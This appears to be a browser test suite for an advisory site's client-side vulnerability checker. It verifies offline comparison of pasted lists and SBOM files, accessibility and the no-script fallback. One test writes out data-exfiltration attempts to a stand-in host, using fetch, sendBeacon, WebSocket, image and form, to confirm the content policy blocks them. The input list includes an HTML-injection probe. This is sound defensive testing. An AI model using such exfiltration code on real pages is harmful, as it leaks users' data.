// "Am I affected?" in a real browser: what is pasted is compared in the page and never leaves it.

import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { AxeResults } from 'axe-core';
import { type Browser, type BrowserContextOptions, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { build } from '../generator/build.ts';
import { list, parse } from '../generator/read.ts';
import { readTheme } from '../generator/theme-assets.ts';
import { tocsin } from './command.ts';

const project = resolve(import.meta.dirname, '..');
const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const { outputs, model } = build(parse(list(project)), '2026-11-21T12:00:00Z', readTheme(join(project, 'build/theme')));
const files = new Map(outputs.map((output) => [`/${output.path}`, output]));
const base = model?.site.url ?? 'https://missing.example';
const LIST = 'barbican 4.20.3\nmarlin 1:4.6.1-2\nmast<b>x</b> 1.0\n';
const temporary = mkdtempSync(join(tmpdir(), 'tocsin-check-'));

describe.skipIf(!executablePath && process.env['CI'] !== 'true')('in a browser (skipped without chromium)', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({ ...(executablePath && { executablePath }), args: ['--no-sandbox'] });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    rmSync(temporary, { recursive: true });
  });

  test('a pasted list is answered as by the command, without any request, also offline', async () => {
    const { page, asked, faults } = await open(browser);
    const before = asked.length;
    expect(before).toBeLessThanOrEqual(4);
    await page.context().setOffline(true);
    await page.fill('#list', LIST);
    await page.click('button[type=submit]');
    const { out } = await tocsin(
      ['affected', '--root', project, '--now', '2026-11-21T12:00:00Z', '--format', 'json'],
      {},
      LIST,
    );
    const said = JSON.parse(out) as { affected: { advisory: string; todo: string }[] };
    expect(await page.textContent('#answer')).toMatch(/^Affected by \d+ advisor/);
    expect(await page.getAttribute('#answer', 'role')).toBe('status');
    const shown = await page.locator('tr[data-answer=affected] .id').allTextContents();
    expect(shown.length).toBeGreaterThan(1);
    expect(shown).toEqual(said.affected.map(({ advisory }) => advisory));
    expect(await page.textContent('#findings')).toContain('Update to 4.20.4 or later.');
    // The list is in no address, and in no storage.
    expect(page.url()).toBe(`${base}/check/`);
    expect(await page.evaluate('localStorage.length + sessionStorage.length + document.cookie.length')).toBe(0);
    expect(asked.slice(before)).toEqual([]);
    expect(faults).toEqual([]);
    await page.context().close();
  });

  test('the policy keeps in what a script would send', async () => {
    const { page, asked } = await open(browser);
    const before = asked.length;
    await page.evaluate(`(async () => {
      for (const address of ['/check/data.js?list=secret', 'https://elsewhere.example/?secret']) {
        await fetch(address).catch(() => {});
        navigator.sendBeacon(address, 'secret');
        try { new WebSocket('wss://elsewhere.example/secret'); } catch {}
        await new Promise((done) => { const image = new Image(); image.onerror = image.onload = done; image.src = address.replace('/check', 'https://elsewhere.example'); });
      }
      const form = document.createElement('form');
      form.action = '/check/?secret'; document.body.append(form); form.submit();
      await new Promise((done) => setTimeout(done, 200));
    })()`);
    expect(asked.slice(before)).toEqual([]);
    await page.context().close();
  });

  test('a file, the release, and Clear', async () => {
    const { page, faults } = await open(browser);
    const file = join(temporary, 'sbom.json');
    const component = { type: 'library', name: 'barbican', purl: 'pkg:generic/barbican@4.20.3' };
    writeFileSync(file, JSON.stringify({ bomFormat: 'CycloneDX', specVersion: '1.5', components: [component] }));
    await page.setInputFiles('#file', file);
    await page.waitForSelector('tr[data-answer=affected]');
    expect(await page.textContent('#findings')).toContain('Read as CycloneDX JSON: 1 package.');
    await page.click('button[type=reset]');
    expect(await page.textContent('#answer')).toBe('');
    expect(await page.locator('tr[data-answer]').count()).toBe(0);
    await page.selectOption('#release', 'mizzen');
    await page.fill('#list', 'barbican\t4.20.5-2\n');
    await page.click('button[type=submit]');
    expect(await page.textContent('#findings')).toContain('Release: Halyard 12, as chosen.');
    expect(await page.textContent('#findings')).toContain('DSA-108-1');
    await page.fill('#list', 'what is this');
    await page.click('button[type=submit]');
    expect(await page.textContent('#answer')).toMatch(/^Nothing was compared/);
    expect(faults).toEqual([]);
    await page.context().close();
  });

  test('by keyboard alone', async () => {
    const { page } = await open(browser);
    await page.focus('#list');
    await page.keyboard.insertText('barbican 4.20.3');
    for (let presses = 0; presses < 10; presses++) {
      await page.keyboard.press('Tab');
      if (await page.evaluate("document.activeElement.matches('#check button[type=submit]')")) break;
    }
    await page.keyboard.press('Enter');
    await page.waitForSelector('tr[data-answer=affected]');
    for (let presses = 0; presses < 10; presses++) {
      await page.keyboard.press('Tab');
      if (await page.evaluate("document.activeElement.matches('#findings a')")) break;
    }
    expect(await page.evaluate('document.activeElement.href')).toContain('/advisories/');
    await page.context().close();
  });

  test('axe finds nothing in the answer in light and dark, and nothing scrolls sideways at 320 px', async () => {
    const { page } = await open(browser, { viewport: { width: 320, height: 900 } });
    const list = `${LIST}what is this\n${'x'.repeat(200)} 1.0\nbarbican 9.9\n`;
    await page.fill('#list', list);
    await page.click('button[type=submit]');
    await page.waitForSelector('tr[data-answer=unknown]');
    await page.evaluate(axe);
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      for (const width of [320, 1280]) {
        await page.setViewportSize({ width, height: 900 });
        expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(width);
        const options =
          "{resultTypes: ['violations'], rules: {'color-contrast-enhanced': {enabled: true}, 'target-size': {enabled: true}}}";
        const { violations } = (await page.evaluate(`axe.run(document, ${options})`)) as AxeResults;
        expect(violations.map(({ id, nodes }) => `${colorScheme} ${width} ${id} ${nodes[0]?.html}`)).toEqual([]);
      }
    }
    await page.context().close();
  });

  test('without script the page says how to do the same', async () => {
    const { page } = await open(browser, { javaScriptEnabled: false });
    expect(await page.isVisible('#check')).toBe(false);
    expect(await page.isVisible('noscript p')).toBe(true);
    expect(await page.textContent('#run-affected')).toContain('tocsin affected --index');
    await page.context().close();
  });
});

/** The page, with every request that it makes and every error that it reports. */
async function open(browser: Browser, options: BrowserContextOptions = {}) {
  const context = await browser.newContext(options);
  const [asked, faults]: [string[], string[]] = [[], []];
  await context.route('**/*', (route) => {
    const url = new URL(route.request().url());
    if (!url.pathname.startsWith('/favicon')) asked.push(url.href);
    const path = url.pathname.endsWith('/') ? `${url.pathname}index.html` : url.pathname;
    const output = url.origin === new URL(base).origin ? files.get(path) : undefined;
    if (!output) return route.fulfill({ status: 404, body: '' });
    return route.fulfill({ contentType: `${output.type}; charset=utf-8`, body: Buffer.from(output.body) });
  });
  const page: Page = await context.newPage();
  page.on('console', (message) => {
    if (message.type() === 'error' && !message.text().includes('404')) faults.push(message.text());
  });
  page.on('pageerror', (error) => faults.push(error.message));
  await page.goto(`${base}/check/`);
  if (options.javaScriptEnabled !== false) await page.waitForSelector('#check:not([hidden])');
  return { page, asked, faults };
}
